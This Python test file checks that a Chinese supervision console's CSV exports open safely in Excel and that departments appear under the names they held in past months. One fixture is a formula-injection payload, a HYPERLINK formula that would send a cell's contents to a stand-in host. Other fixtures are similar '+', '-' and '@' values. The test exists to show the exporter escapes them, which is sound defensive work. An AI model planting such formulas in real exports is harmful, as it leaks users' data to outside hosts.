"""The 监督 page's CSV exports open in Excel as they read: Chinese intact, names never taken for formulas."""

from __future__ import annotations

import csv
import io

from services.runtime.excel_csv import csv_bytes


def test_excel_reads_the_chinese_and_no_name_becomes_a_formula() -> None:
    data = csv_bytes(["部门代码", "部门名称", "综合得分"], [
        ["11110100MB00000027", "市公安局", "91.67"],
        ["11110100MB0000003A", '=HYPERLINK("http://x.example/?"&A1,"点击")', "100.00"],
        ["11110100MB0000004D", "+86 市测试局", 3], ["11110100MB0000005G", "-1", 0],
        ["11110100MB0000006K", "@SUM(1)", 0],
        ["11110100MB0000007N", "市民政局，含逗号\n与换行", 5]])
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only after a byte order mark
    assert b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["部门代码", "部门名称", "综合得分"]
    assert [row[1] for row in rows[1:]] == ["市公安局", '\'=HYPERLINK("http://x.example/?"&A1,"点击")', "'+86 市测试局",
                                            "'-1", "'@SUM(1)", "市民政局，含逗号\n与换行"]
    assert [row[2] for row in rows[1:]] == ["91.67", "100.00", "3", "0", "0", "5"]


def test_a_months_departments_are_named_as_they_were_then_with_todays_name_beside() -> None:
    """The 监督 page and its exports named every department of a past month by today's name: 市民政局, renamed
    市社会服务局 since, read so in the evaluations of a month it bore the former. The month's name comes first,
    today's beside it; a month computed before names were kept, or a name unchanged, reads as before."""
    from console.pages import named_then
    from govshare.supervision.v1 import supervision_pb2

    renamed, kept, old = "11110100MB0000007N", "11110100MB00000027", "11110100MB0000003A"
    evaluations = [supervision_pb2.Evaluation(department_code=renamed, department_name="市民政局"),
                   supervision_pb2.Evaluation(department_code=kept, department_name="市公安局"),
                   supervision_pb2.Evaluation(department_code=old)]
    today = {renamed: "市社会服务局", kept: "市公安局", old: "市市场监督管理局"}
    assert named_then(today, evaluations) == {renamed: "市民政局（现名：市社会服务局）", kept: "市公安局",
                                              old: "市市场监督管理局"}

